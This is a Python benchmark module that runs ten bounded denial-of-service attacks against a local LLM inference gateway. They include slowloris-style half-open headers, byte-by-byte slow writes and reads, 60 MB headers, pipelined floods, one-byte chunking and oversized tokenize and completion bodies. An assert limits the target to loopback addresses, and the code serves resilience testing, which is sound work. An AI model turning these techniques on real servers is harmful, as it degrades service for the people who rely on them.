"""`python -m benchmarks.attacks.attackers NAME HOST PORT SECONDS`: one attack on a gateway by clients without
a key. Each is bounded in connections and in time, and goes to a loopback address only.
"""

import asyncio
import contextlib
import ipaddress
import json
import os
import resource
import sys
import time
from collections.abc import Awaitable, Callable

HEAD = b"POST %b HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\n"
JSON_LENGTH = b"content-length: %d\r\n\r\n"
NUM_CONNECTIONS = 20_000


class Target:
    """The gateway that is attacked, and until when."""

    def __init__(self, host: str, port: int, seconds: float) -> None:
        assert ipaddress.ip_address(host).is_loopback
        self.host, self.port = host, port
        self.end_s = time.monotonic() + seconds
        self.num_opened = 0

    @property
    def lasts(self) -> bool:
        return time.monotonic() < self.end_s

    async def end(self) -> None:
        """Return when the attack is over."""
        await asyncio.sleep(max(0.0, self.end_s - time.monotonic()))

    async def open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a connection from one of several addresses, because the ports of one do not suffice."""
        self.num_opened += 1
        source = f"127.0.2.{1 + self.num_opened % 8}"
        return await asyncio.open_connection(self.host, self.port, local_addr=(source, 0), limit=1024)

    async def forget(self, *parts: bytes, pause_s: float = 0.0) -> None:
        """Send parts on a new connection, and close it without reading."""
        _, writer = await self.open()
        with contextlib.suppress(OSError):
            for part in parts:
                writer.write(part)
                await writer.drain()
                await asyncio.sleep(pause_s)
                if not self.lasts:
                    break
        writer.transport.abort()


def posted(path: bytes, body: bytes) -> bytes:
    return HEAD % path + JSON_LENGTH % len(body) + body


async def repeat(target: Target, width: int, once: Callable[[], Awaitable[None]]) -> None:
    """Repeat an act, `width` at a time, until the attack is over."""

    async def one() -> None:
        while target.lasts:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                await once()

    await asyncio.gather(*(one() for _ in range(width)))


# --- attacks ------------------------------------------------------------------------------------------------


async def endless_header(target: Target) -> None:
    """A header of 60 MB, again and again."""
    part = b"a" * 100_000
    await repeat(target, 4, lambda: target.forget(b"GET /version HTTP/1.1\r\nX-A: ", *[part] * 600))


async def huge_cookies(target: Target) -> None:
    """Whole heads just below the limit, with the most fields that are allowed."""
    fields = b"".join(b"cookie: %b\r\n" % (b"a" * 500) for _ in range(120))
    await repeat(target, 4, lambda: target.forget(b"GET /version HTTP/1.1\r\nhost: x\r\n" + fields + b"\r\n"))


async def half_heads(target: Target) -> None:
    """20,000 connections that begin a head and do not end it, held until the gateway closes them."""
    held = []
    for _ in range(NUM_CONNECTIONS):
        if not target.lasts:
            break
        with contextlib.suppress(OSError):
            _, writer = await target.open()
            writer.write(HEAD % b"/generate")
            held.append(writer)
    await target.end()
    for writer in held:
        writer.transport.abort()


async def slow_writes(target: Target) -> None:
    """200 clients that send a request byte by byte, one a second."""
    request = posted(b"/generate", b'{"inputs":"x"}')
    parts = [request[i : i + 1] for i in range(len(request))]
    await repeat(target, 200, lambda: target.forget(*parts, pause_s=1.0))


async def new_connections(target: Target) -> None:
    """Connections that are opened and closed as fast as possible."""
    await repeat(target, 16, target.forget)


async def pipelined(target: Target) -> None:
    """1,000 requests at once on a connection. Nobody reads the answers."""
    await repeat(target, 8, lambda: target.forget(b"GET /version HTTP/1.1\r\nhost: x\r\n\r\n" * 1000))


async def tiny_chunks(target: Target) -> None:
    """Bodies in chunks of one byte."""
    head = HEAD % b"/generate" + b"transfer-encoding: chunked\r\n\r\n"
    await repeat(target, 4, lambda: target.forget(head, *[b"1\r\n \r\n" * 10_000] * 20))


async def slow_reads(target: Target) -> None:
    """Four clients that ask for long answers with many details for each token, and read nothing."""
    parameters = {"max_new_tokens": 1000, "ignore_eos": True, "details": True, "top_n_tokens": 5}
    request = posted(b"/generate_stream", json.dumps({"inputs": "x", "parameters": parameters}).encode())
    held = [await target.open() for _ in range(4)]
    for _, writer in held:
        writer.write(request)
    await target.end()
    for _, writer in held:
        writer.transport.abort()


async def large_texts(target: Target) -> None:
    """16 texts of 2 MB to tokenize at a time."""
    request = posted(b"/tokenize", json.dumps({"inputs": "word " * 390_000}).encode())
    await repeat(target, 16, lambda: answered(target, request))


async def many_prompts(target: Target) -> None:
    """100,000 prompts in one body."""
    request = posted(b"/v1/completions", json.dumps({"prompt": ["x"] * 100_000}).encode())
    await repeat(target, 4, lambda: answered(target, request))


async def answered(target: Target, request: bytes) -> None:
    reader, writer = await target.open()
    writer.write(request)
    await reader.read(100)
    writer.transport.abort()


ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        endless_header,
        huge_cookies,
        half_heads,
        slow_writes,
        new_connections,
        pipelined,
        tiny_chunks,
        slow_reads,
        large_texts,
        many_prompts,
    )
}


def main() -> None:
    name, host, port, seconds = sys.argv[1:]
    os.nice(19)  # what it costs a gateway is measured, not that it takes a core
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(ATTACKS[name](Target(host, int(port), float(seconds))))  # type: ignore[arg-type]


if __name__ == "__main__":
    main()
